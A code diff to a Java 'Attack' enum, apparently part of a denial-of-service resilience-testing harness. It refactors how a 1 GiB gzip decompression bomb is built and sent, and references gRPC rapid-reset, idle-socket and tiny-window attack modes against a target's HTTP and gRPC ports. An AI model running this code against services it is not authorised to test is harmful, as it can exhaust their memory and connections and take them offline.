@@ -42,6 +42,7 @@ public enum Attack {
   private static final int GIGABYTE = 1 << 30;
   private static final int BLOCK = 1 << 16;
   private static final byte[] NONE = new byte[0];
+  private static final byte[] BOMB = bomb();
   private static final byte[] WINDOW_OF_ONE = {0, 4, 0, 0, 0, 1};
   private static final Duration PAUSE = Duration.ofMillis(100);
   private static final Duration BYTE_OF_HEAD = Duration.ofSeconds(1);
@@ -76,11 +77,10 @@ public enum Attack {
 
   /** One of its connections: returns when it is over. */
   void run(Target target, BooleanSupplier goesOn) {
-    byte[] bomb = this == GZIP_BOMB ? Bomb.BYTES : NONE;
     while (goesOn.getAsBoolean()) {
       int port = this == GRPC_RAPID_RESET ? target.grpc() : target.http();
       try (HostileConnection connection = new HostileConnection(port)) {
-        attack(target, connection, bomb, goesOn);
+        attack(target, connection, goesOn);
       } catch (IOException cut) {
         // It is opened again.
       }
@@ -88,8 +88,7 @@ public enum Attack {
     }
   }
 
-  private void attack(
-      Target target, HostileConnection connection, byte[] bomb, BooleanSupplier goesOn)
+  private void attack(Target target, HostileConnection connection, BooleanSupplier goesOn)
       throws IOException {
     byte[] get = HostileConnection.get("/openapi.json", target.authorization());
     switch (this) {
@@ -107,8 +106,8 @@ public enum Attack {
       }
       case IDLE_SOCKETS -> pause(BYTE_OF_BODY, goesOn);
       case GZIP_BOMB -> {
-        connection.text(post(target, "Content-Encoding: gzip\r\n", bomb.length));
-        connection.bytes(bomb);
+        connection.text(post(target, "Content-Encoding: gzip\r\n", BOMB.length));
+        connection.bytes(BOMB);
         pause(PAUSE, goesOn);
       }
       case TINY_WINDOWS -> {
@@ -189,21 +188,17 @@ public enum Attack {
         + "\r\n";
   }
 
-  /** Made when it is first needed. */
-  private static final class Bomb {
-    private static final byte[] BYTES = make();
-
-    private static byte[] make() {
-      ByteArrayOutputStream packed = new ByteArrayOutputStream();
-      try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
-        byte[] block = " ".repeat(BLOCK).getBytes(StandardCharsets.US_ASCII);
-        for (int i = 0; i < GIGABYTE / BLOCK; i++) {
-          gzip.write(block);
-        }
-      } catch (IOException impossible) {
-        throw new UncheckedIOException(impossible);
+  /** Made before the first attack: it takes seconds. */
+  private static byte[] bomb() {
+    ByteArrayOutputStream packed = new ByteArrayOutputStream();
+    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
+      byte[] block = " ".repeat(BLOCK).getBytes(StandardCharsets.US_ASCII);
+      for (int i = 0; i < GIGABYTE / BLOCK; i++) {
+        gzip.write(block);
       }
-      return packed.toByteArray();
+    } catch (IOException impossible) {
+      throw new UncheckedIOException(impossible);
     }
+    return packed.toByteArray();
   }
 }
